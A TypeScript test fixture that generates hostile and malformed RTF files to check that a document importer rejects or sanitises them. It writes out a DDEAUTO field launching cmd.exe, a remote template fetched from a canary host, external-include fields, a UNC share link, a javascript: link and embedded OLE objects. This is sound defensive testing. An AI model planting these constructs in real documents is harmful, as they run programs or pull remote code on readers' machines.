import { english } from '#tests/fixtures/import/releases.ts'
import { type Canary, type HostileFile, hostileFiles, opens, refused } from '#tests/hostile/hostile-file.ts'

const text = english.headline
const shown = opens([], { shows: text })
const damaged = refused('FILE_DAMAGED')
const rtf =
  (body: string, header = '\\ansi\\ansicpg1252') =>
  (): Uint8Array =>
    Buffer.from(`{\\rtf1${header} ${text}\\par ${body}}`, 'latin1')

/** RTF files that end too early, nest without end, lie about their numbers, reach outside or carry programs. */
export function richTextFiles({ address, host }: Canary): readonly HostileFile[] {
  const external = opens(['external-parts-dropped'], { shows: text, hides: host })
  const objects = opens(['embedded-objects-dropped'], { shows: text, hides: 'struck' })
  const field = (instruction: string, result = ''): (() => Uint8Array) =>
    rtf(`{\\field{\\*\\fldinst{${instruction}}}{\\fldrslt{${result}}}}\\par`)
  return hostileFiles('rtf', 'release.rtf', [
    ['cut within a group', () => `{\\rtf1\\ansi {\\b ${text}`, damaged],
    ['nothing but a brace', () => '{\\rtf', damaged],
    ['groups 200,000 deep', rtf('{'.repeat(200_000)), damaged],
    ['groups 200 deep', rtf(`${'{'.repeat(200)}a${'}'.repeat(200)}`), shown],
    ['braces that close too often', rtf('}}}}'.repeat(1_000)), shown],
    ['binary data longer than the file', rtf('{\\*\\x\\bin99999999 a}'), damaged],
    ['binary data of a negative length', rtf('{\\*\\x\\bin-99999999 a}'), shown],
    ['a number that no machine has', rtf('\\u99999999999999999999? \\fs2147483648 \\li-2147483648 a\\par'), shown],
    ['words of a million letters', rtf(`\\${'a'.repeat(1_000_000)} b\\par`), shown],
    ['a million words', rtf('\\b\\i'.repeat(500_000)), shown],
    ['half letters', rtf('\\u-10179?\\u-10179? a\\par'), shown],
    ['letters in a code page that is none', rtf("\\'e9\\'ff a\\par", '\\ansi\\ansicpg99999'), shown],
    [
      'a picture that never ends',
      rtf(`{\\pict\\wmetafile8 ${'00'.repeat(2_000_000)}}`),
      opens(['images-dropped'], { shows: text }),
    ],
    [
      'a table of 100,000 cells in a row',
      rtf(`\\trowd ${'\\intbl a\\cell '.repeat(100_000)}\\row`),
      opens(['cut-short', 'tables-flattened'], { shows: text }),
    ],
    ['notes in notes', rtf('{\\footnote a'.repeat(100) + '}'.repeat(100)), shown],
    ['300,000 paragraphs', rtf('a\\par '.repeat(300_000)), opens(['cut-short'], { shows: text })],
    ['an object', rtf('{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata struck}{\\result struck}}'), objects],
    [
      'an object that updates itself',
      rtf('{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document}{\\*\\objdata struck}}'),
      objects,
    ],
    ['an equation', rtf('{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 01050000struck}}'), objects],
    [
      'a template from elsewhere',
      rtf(`{\\*\\template http://${host}/a.dotm}`),
      opens([], { shows: text, hides: host }),
    ],
    ['a field that takes in a file', field(`INCLUDETEXT "http://${host}/a"`), external],
    ['a field that takes in a picture', field(`INCLUDEPICTURE "${address}/a.png" \\\\d`), external],
    [
      'a field that starts a program',
      field('DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc"'),
      opens(['external-parts-dropped'], { shows: text, hides: 'calc' }),
    ],
    [
      'a link that is a script',
      field('HYPERLINK "javascript:struck()"', 'here'),
      opens(['links-dropped'], { shows: 'here', hides: 'struck' }),
    ],
    [
      'a link to a share',
      field(`HYPERLINK "\\\\\\\\\\\\\\\\${host}\\\\\\\\a"`, 'here'),
      opens(['links-dropped'], { shows: 'here', hides: host }),
    ],
    [
      'files from elsewhere',
      rtf(`{\\*\\filetbl{\\file\\fid0 http://${host}/a}}`),
      opens([], { shows: text, hides: host }),
    ],
    ['hidden text', rtf('{\\v struck}a\\par'), opens(['hidden-text-dropped'], { shows: text, hides: 'struck' })],
    ['markup in the text', rtf('<script>struck()</script>\\par'), opens([], { shows: '<script>struck()</script>' })],
    ['names of the prototype', rtf('{\\stylesheet{\\s1 __proto__;}}\\pard\\s1 a\\par'), shown],
  ])
}
